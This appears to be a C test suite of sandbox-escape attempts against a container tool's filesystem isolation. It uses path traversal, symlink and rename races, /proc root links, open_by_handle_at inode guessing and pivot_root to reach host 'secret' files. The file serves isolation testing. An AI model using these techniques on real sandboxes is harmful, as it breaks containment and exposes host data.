// Names that lead out: of the root, into what --tmpfs hides, or to the host by links of /proc and symlinks.
#define CLASS "paths"
#include "attack.h"
#include <dirent.h>
#include <sys/mount.h>

ATTACK(dotdot_path, leak, 0, ".. from the root, as often as one likes") {
    if (chdir(in("/lower")) != 0) return;
    leakPath("../../outside/secret");
    leakPath("../../../../../../../../../../../outside/secret");
    leakPath(out("secret"));
}
ATTACK(dotdot_at, leak, 0, ".. by openat, from directory descriptors, one step at a time") {
    int fd = open(in("/lower"), O_RDONLY | O_DIRECTORY);
    for (int i = 0; i < 8; i++) {
        int file = openat(fd, "outside/secret", O_RDONLY);
        if (file >= 0) leakFile(file);
        int up = openat(fd, "..", O_RDONLY | O_DIRECTORY);
        if (up < 0) break;
        close(fd), fd = up;
    }
}
ATTACK(dotdot_fchdir, leak, 0, "fchdir to a directory's descriptor, then ..") {
    for (int i = 0; i < 2; i++) {
        if (fchdir(open(in(i ? "/ro" : "/lower"), O_RDONLY | O_DIRECTORY)) != 0) continue;
        for (int n = 0; n < 6; n++) {
            leakPath("outside/secret");
            if (chdir("..") != 0) break;
        }
    }
}
ATTACK(dotdot_chroot, leak, NATIVE_ROOT, "chroot below the working directory, then .. (the classic way out)") {
    int here = open(in("/"), O_RDONLY | O_DIRECTORY);
    if (chroot(in("/lower/dir")) != 0) say("chroot", -1);
    if (fchdir(here) != 0) say("fchdir", -1);
    for (int n = 0; n < 12; n++) {
        leakPath("outside/secret");
        if (chdir("..") != 0) break;
    }
}
ATTACK(dotdot_openat2, leak, 0, "openat2 with each set of resolve flags") {
    int fd = open(in("/lower"), O_PATH);
    for (uint64_t resolve = 0; resolve < 64; resolve++) {
        struct {
            uint64_t flags, mode, resolve;
        } how = {O_RDONLY, 0, resolve};
        int file = (int)syscall(437, fd, "../../outside/secret", &how, sizeof how);
        if (file >= 0) leakFile(file);
        file = (int)syscall(437, fd, "out/secret", &how, sizeof how);
        if (file >= 0) leakFile(file);
    }
}
ATTACK(dotdot_renamed, leak, 0, "a directory renamed upwards while another thread walks .. through it") {
    static char deep[4096];
    mkdir(in("/tmp/a"), 0777), mkdir(in("/tmp/a/b"), 0777), mkdir(in("/tmp/a/b/c"), 0777);
    snprintf(deep, sizeof deep, "%s", in("/tmp/a/b/c/../../../../../outside/secret"));
    pid_t child = forked();
    if (child == 0)
        for (;;) {
            rename(in("/tmp/a/b"), in("/tmp/b"));
            rename(in("/tmp/b"), in("/tmp/a/b"));
        }
    for (double end = now() + 0.2; now() < end;) {
        int fd = open(deep, O_RDONLY);
        if (fd >= 0) leakFile(fd), close(fd);
    }
    kill(child, SIGKILL), waitpid(child, NULL, 0);
}
ATTACK(symlink_lower, leak, 0, "a symlink of the lower layer that leads out, relative and absolute, as last and as middle part") {
    leakPath(in("/lower/out/secret"));
    leakPath(in("/lower/absolute/secret"));
    leakPath(in("/ro/out/secret"));
}
ATTACK(symlink_write, change, 0, "a write, mkdir and rename through such a symlink") {
    deface(open(in("/lower/out/victim"), O_WRONLY));
    deface(open(in("/ro/out/victim"), O_WRONLY));
    say("mkdir", mkdir(in("/lower/absolute/new"), 0777));
    say("rename", rename(in("/lower/absolute/victim"), in("/lower/absolute/gone")));
}
ATTACK(symlink_made, leak, WRITABLE_BIND, "symlinks that the guest makes, in the upper and in a writable bind") {
    say("symlink", symlink(out(""), in("/tmp/s")));
    say("symlink", symlink(out(""), in("/rw/s")));
    say("symlink", symlink("../outside", in("/rw/r")));
    leakPath(in("/tmp/s/secret"));
    leakPath(in("/rw/s/secret"));
    leakPath(in("/rw/r/secret"));
}
ATTACK(symlink_raced, leak, WRITABLE_BIND, "a directory of a writable bind exchanged with a symlink while it is walked") {
    mkdir(in("/rw/d"), 0777);
    int fd = open(in("/rw/d/secret"), O_WRONLY | O_CREAT, 0666);
    close(fd);
    say("symlink", symlink(out(""), in("/rw/l")));
    pid_t child = forked();
    if (child == 0) {
        char a[4096], b[4096];
        strcpy(a, in("/rw/d")), strcpy(b, in("/rw/l"));
        for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
    }
    char path[4096];
    strcpy(path, in("/rw/d/secret"));
    for (double end = now() + 0.3; now() < end;) {
        fd = open(path, O_RDONLY);
        if (fd >= 0) leakFile(fd), close(fd);
    }
    kill(child, SIGKILL), waitpid(child, NULL, 0);
}
ATTACK(symlink_raced_write, change, WRITABLE_BIND, "the same, with truncate, chmod and rename") {
    mkdir(in("/rw/d"), 0777);
    close(open(in("/rw/d/victim"), O_WRONLY | O_CREAT, 0666));
    say("symlink", symlink(out(""), in("/rw/l")));
    pid_t child = forked();
    if (child == 0) {
        char a[4096], b[4096];
        strcpy(a, in("/rw/d")), strcpy(b, in("/rw/l"));
        for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
    }
    char path[4096];
    strcpy(path, in("/rw/d/victim"));
    for (double end = now() + 0.3; now() < end;) {
        if (truncate(path, 3) == 0) truncate(path, 5);
        chmod(path, 0640);
        close(open(path, O_WRONLY));
    }
    kill(child, SIGKILL), waitpid(child, NULL, 0);
}
static void linksOf(int pid) {
    char text[4096];
    const char *where = knows("ARENA");
    for (int i = 0; i < 2; i++) {
        snprintf(text, sizeof text, "/proc/%d/%s%s/outside/secret", pid, i ? "cwd" : "root", where);
        if (i == 1) snprintf(text, sizeof text, "/proc/%d/cwd/../outside/secret", pid);
        leakPath(text);
    }
    snprintf(text, sizeof text, "/proc/%d/cwd%s/outside/secret", pid, where), leakPath(text);
    snprintf(text, sizeof text, "/proc/%d/task/%d/root%s/outside/secret", pid, pid, where), leakPath(text);
}
ATTACK(proc_root_of_self, leak, 0, "/proc/self/root, /proc/self/cwd, /proc/self/task/TID/root") { linksOf(getpid()); }
ATTACK(proc_root_of_host, leak, 0, "/proc/PID/root and cwd of the host's processes and of ours above us") { hostPids(linksOf); }
ATTACK(proc_exe_dotdot, leak, 0, "/proc/self/exe and /proc/self/fd/N with .. after it") {
    char text[128];
    snprintf(text, sizeof text, "/proc/self/fd/%d/../outside/secret", open(in("/"), O_PATH)), leakPath(text);
    snprintf(text, sizeof text, "/proc/self/fd/%d/../../outside/secret", open(in("/lower"), O_RDONLY)), leakPath(text);
    leakPath("/proc/self/exe/../../../outside/secret");
}
ATTACK(hidden_path, leak, 0, "what --tmpfs hides, by its path and from beside it") {
    leakPath(in("/hide/secret"));
    leakPath(in("/lower/../hide/secret"));
    leakPath(in("/keep/in/hide/secret"));
}
ATTACK(hidden_renamed, leak, 0, "the parents of a hidden directory renamed, removed, exchanged") {
    say("rename", rename(in("/keep"), in("/moved")));
    leakPath(in("/moved/in/hide/secret"));
    say("rename", rename(in("/keep/in"), in("/keep/other")));
    leakPath(in("/keep/other/hide/secret"));
    mkdir(in("/tmp/x"), 0777);
    say("exchange", syscall(SYS_renameat2, AT_FDCWD, in("/keep"), AT_FDCWD, in("/tmp/x"), 2));
    leakPath(in("/tmp/x/in/hide/secret"));
    say("rmdir", rmdir(in("/hide")));
    leakPath(in("/hide/secret"));
    if (!inside) leakPath(in("/keep/in/hide/secret"));
}
ATTACK(hidden_second_run, leak, TWO_RUNS, "the parent of a hidden directory renamed in one run, read in the next over the same upper") {
    if (knowsNumber("PHASE") == 1) {
        say("rename", rename(in("/keep"), in("/moved")));
        say("rename", rename(in("/keep/in"), in("/keep/was")));
        mkdir(in("/keep"), 0777);
        return;
    }
    leakPath(in("/moved/in/hide/secret"));
    leakPath(in("/keep/was/hide/secret"));
    leakPath(in("/keep/in/hide/secret"));
}
ATTACK(hidden_second_removed, leak, TWO_RUNS, "the hidden directory's parent removed or replaced by a symlink in one run, read in the next") {
    if (knowsNumber("PHASE") == 1) {
        say("rmdir", rmdir(in("/keep/in/hide")));
        say("rename", rename(in("/keep/in/hide"), in("/keep/in/shown")));
        say("symlink", symlink("in", in("/keep/again")));
        say("rename", rename(in("/hide"), in("/shown")));
        return;
    }
    leakPath(in("/keep/in/shown/secret"));
    leakPath(in("/shown/secret"));
    leakPath(in("/keep/again/hide/secret"));
    leakPath(in("/hide/secret"));
}
ATTACK(hidden_linked, leak, 0, "a link, or a copy by the kernel, of a hidden file") {
    say("link", link(in("/hide/secret"), in("/tmp/linked")));
    leakPath(in("/tmp/linked"));
    say("rename", rename(in("/hide/secret"), in("/tmp/renamed")));
    leakPath(in("/tmp/renamed"));
}
ATTACK(hidden_unmounted, leak, NATIVE_ROOT, "umount of what hides; natively a tmpfs put there first") {
    if (!inside) say("mount", mount("none", in("/hide"), "tmpfs", 0, NULL));
    say("umount2", umount2(in("/hide"), MNT_DETACH));
    say("umount2", umount2(in("/keep/in/hide"), MNT_DETACH));
    leakPath(in("/hide/secret"));
}
ATTACK(hidden_by_handle, leak, NATIVE_ROOT, "a file handle of a hidden file, guessed from its directory's (open_by_handle_at; CVE-2014-3519, shocker)") {
    struct {
        unsigned bytes;
        int type;
        unsigned char data[128];
    } handle = {128, 0, {0}};
    int mount = 0;
    say("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, in("/hide/secret"), &handle, &mount, 0));
    int fd = (int)syscall(SYS_open_by_handle_at, open(in("/"), O_RDONLY), &handle, O_RDONLY);
    say("open_by_handle_at", fd);
    if (fd >= 0) leakFile(fd);
    // The host's inode number is all that one needs to know on ext4.
    struct stat s;
    if (stat(in("/lower/victim"), &s) != 0) return;
    handle.bytes = 8, handle.type = 1;
    for (uint32_t n = 0; n < 64; n++) {
        uint32_t inode = (uint32_t)s.st_ino - 32 + n;
        memcpy(handle.data, &inode, 4), memset(handle.data + 4, 0, 4);
        fd = (int)syscall(SYS_open_by_handle_at, open(in("/lower"), O_RDONLY), &handle, O_RDONLY);
        if (fd >= 0) leakFile(fd), close(fd);
    }
}
ATTACK(hidden_from_host_root, leak, HOST_ROOT, "with the host's own root shown: what is hidden, by every name that it has") {
    leakPath(out("secret"));
    leakPath(in("/hide/secret"));
    leakPath(in("/lower/out/secret"));
    leakPath(in("/lower/absolute/secret"));
    char text[4096];
    snprintf(text, sizeof text, "/proc/self/root%s", out("secret")), leakPath(text);
    snprintf(text, sizeof text, "/proc/1/root%s", out("secret")), leakPath(text);
    snprintf(text, sizeof text, "/dev/fd/%d%s", open("/", O_PATH), out("secret")), leakPath(text);
    snprintf(text, sizeof text, "%s/rename", knows("ARENA"));
    say("rename", rename(knows("ARENA"), text));
    snprintf(text, sizeof text, "%s/rename/outside/secret", knows("ARENA"));
    leakPath(text);
}
ATTACK(hidden_listed, leak, 0, "a hidden name in a listing, as the secret's own name would show; natively by readdir and reading") {
    DIR *directory = opendir(in("/hide"));
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
        char text[4096];
        snprintf(text, sizeof text, "%s/%s", in("/hide"), entry->d_name);
        leakText(text);
        if (entry->d_type == DT_REG) leakPath(text);
    }
}
ATTACK(pivoted, leak, NATIVE_ROOT, "pivot_root, move_mount and MS_MOVE to where more is shown; natively by a bind mount") {
    say("unshare", syscall(SYS_unshare, 0x20000 /* CLONE_NEWNS */));
    say("mount", mount(out(""), in("/tmp"), NULL, MS_BIND, NULL));
    say("pivot_root", syscall(SYS_pivot_root, in("/tmp"), in("/tmp")));
    int tree = (int)syscall(428, AT_FDCWD, out(""), 1);
    say("open_tree", tree);
    say("move_mount", syscall(429, tree, "", AT_FDCWD, in("/tmp"), 4));
    leakPath(in("/tmp/secret"));
    leakPath("/secret");
}
